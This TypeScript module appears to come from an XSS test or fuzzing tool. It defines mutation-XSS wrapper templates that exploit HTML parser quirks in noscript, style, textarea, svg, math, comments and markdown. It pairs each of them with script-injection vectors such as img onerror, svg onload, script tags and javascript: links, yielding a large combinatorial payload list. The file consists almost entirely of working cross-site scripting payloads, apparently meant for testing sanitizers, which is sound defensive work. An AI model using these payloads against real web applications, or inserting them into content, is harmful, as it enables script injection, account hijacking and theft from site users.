import { type Attack, pair } from '../payload.ts'

/** Markup that is read in one way, and in another once it was written back and read again. */
const shells: readonly ((inner: string) => string)[] = [
  inner => `<noscript><p title="</noscript>${inner}">`,
  inner => `<style><a title="</style>${inner}"></style>`,
  inner => `<title><a title="</title>${inner}">`,
  inner => `<textarea></textarea>${inner}</textarea>`,
  inner => `<textarea><a title="</textarea>${inner}">`,
  inner => `<xmp><p title="</xmp>${inner}">`,
  inner => `<noembed><p title="</noembed>${inner}">`,
  inner => `<noframes><p title="</noframes>${inner}">`,
  inner => `<iframe><p title="</iframe>${inner}">`,
  inner => `<template>${inner}</template>`,
  inner => `<template shadowrootmode=open>${inner}</template>`,
  inner => `<select><option>${inner}</select>${inner}`,
  inner => `<table><tr>${inner}<td>x</table>`,
  inner => `<table><style><p title="</style>${inner}">`,
  inner => `<svg></p><style><a id="</style>${inner}">`,
  inner => `<svg><style><!--</style>${inner}--></svg>`,
  inner => `<math><mtext><table><mglyph><style><!--</style>${inner}-->`,
  inner => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  inner => `<!--><p>${inner}-->`,
  inner => `<!-- --!>${inner}-->`,
  inner => `<!-- x --> ${inner} <!-- y -->`,
  inner => `<![CDATA[ ]]>${inner}`,
  inner => `<?xml ?>${inner}`,
  inner => `<!DOCTYPE x [<!ENTITY y "z">]>${inner}`,
  inner => `<details><summary>${inner}</summary>${inner}</details>`,
  inner => `<br>${inner}<br/>`,
  inner => `&lt;p&gt;${inner}&amp;lt;`,
  inner => `\`x\`${inner}\``,
  inner => `<a title="\`">\`${inner}`,
  inner => `<a href="*x">*${inner}`,
  inner => `[x](y "${inner.replaceAll('"', "'")}")`,
  inner => `![${inner}](x)`,
  inner => `[${inner}](https://a.example)`,
]

const inners: readonly Attack[] = [
  code => `<img src=x onerror=${code}>`,
  code => `<svg/onload=${code}>`,
  code => `<script>${code}</script>`,
  code => `<iframe srcdoc="&lt;script>${code}&lt;/script>"></iframe>`,
  code => `<video src=x onerror=${code}></video>`,
  code => `<a href=javascript:${code}>x</a>`,
]

export const mutations: readonly Attack[] = pair(
  shells,
  inners,
  (shell, inner): Attack =>
    (code, sign) =>
      shell(inner(code, sign)),
)
